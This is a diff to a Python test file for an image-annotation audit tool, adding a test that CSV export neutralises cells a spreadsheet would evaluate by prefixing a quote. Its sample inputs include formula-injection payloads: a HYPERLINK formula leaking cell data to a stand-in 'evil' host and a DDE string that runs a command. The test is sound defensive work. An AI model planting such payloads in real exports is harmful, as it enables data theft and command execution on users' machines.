@@ -11,7 +11,7 @@ import numpy as np
 import pytest
 from pydantic import ValidationError
 
-from handlers.audit import CSV_COLUMNS, audit_csv, audit_part_size, review_order
+from handlers.audit import CSV_COLUMNS, audit_csv, audit_part_size, review_order, spreadsheet_text
 from ml.audit import AuditOptions, audit
 from schemas.annotation import (
     MAX_CLASS_NAME_LENGTH,
@@ -129,17 +129,45 @@ def test_csv_round_trips_strange_values_and_failed_rows():
     review = review_order(request_images, classes, good, failed, table)
     rows = list(csv.reader(io.StringIO(audit_csv(request_images, review, failed).decode("utf-8"), newline="")))
     assert tuple(rows[0]) == CSV_COLUMNS and len(rows) == 41
-    assert [r[0] for r in rows[1:]] == [request_images[p].id for p in review.order]
+    assert [r[0] for r in rows[1:]] == [spreadsheet_text(request_images[p].id) for p in review.order]
     assert [r[0] for r in rows[-2:]] == [request_images[3].id, request_images[7].id]  # failed: last, request order
     assert rows[-2][1:] == [request_images[3].label, "", "", "", "", "", "", "http_status"]
     scores = [float(r[6]) for r in rows[1:-2]]
     assert scores == sorted(scores, reverse=True)
     for row in rows[1:-2]:
-        entry = review.entries[[image.id for image in request_images].index(row[0])]
+        entry = review.entries[[spreadsheet_text(image.id) for image in request_images].index(row[0])]
         assert row[1:] == [entry["label"], repr(entry["label_probability"]), "true" if entry["label_issue"] else "false",
                            entry["suggested_label"], repr(entry["suggested_probability"]), repr(entry["issue_score"]),
                            repr(entry["outlier_score"]), ""]
     assert [entry["rank"] for entry in sorted(review.entries.values(), key=lambda e: e["rank"])] == list(range(38))
+
+
+def test_csv_cells_a_spreadsheet_would_evaluate_are_prefixed_with_a_quote():
+    from schemas.annotation import AuditImage
+
+    rng = np.random.default_rng(1)
+    hostile = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR",
+               "plain", "a=b", "'quoted"]
+    labels = ["=cat", "-dog"]
+    images = [AuditImage(id=f"{hostile[k % len(hostile)]}{k}", url="https://e.com/x", label=labels[k % 2]) for k in range(36)]
+    vectors = np.eye(2)[np.arange(36) % 2] + 0.3 * rng.normal(size=(36, 2))
+    vectors = (vectors / np.linalg.norm(vectors, axis=1, keepdims=True)).astype(np.float32)
+    failed = {0: ImageResult(id=images[0].id, error=ErrorInfo(code="http_status", message="HTTP 404"))}
+    good = np.array([k for k in range(36) if k not in failed])
+    index = np.array([sorted(labels).index(image.label) for image in images])
+    review = review_order(images, sorted(labels), good, failed, audit(vectors[good], index[good], 2, AuditOptions(folds=3)))
+    rows = list(csv.reader(io.StringIO(audit_csv(images, review, failed).decode("utf-8"), newline="")))[1:]
+    by_id = {row[0]: row for row in rows}
+    for k, image in enumerate(images):
+        cell = image.id
+        expected = "'" + cell if cell[0] in "=+-@\t\r" else cell
+        assert expected in by_id, (cell, list(by_id)[:3])
+        row = by_id[expected]
+        assert row[1] == "'" + image.label  # both labels start with a trigger
+        if k != 0:
+            assert row[4] in ("'=cat", "'-dog")
+    assert all(row[0][0] not in "=+-@\t\r" for row in rows)
+    assert {row[0] for row in rows} >= {"plain6", "a=b7", "'quoted8"}  # harmless cells unchanged
 
 
 async def test_send_audit_inlines_a_local_manifest_and_refuses_a_large_one(tmp_path):
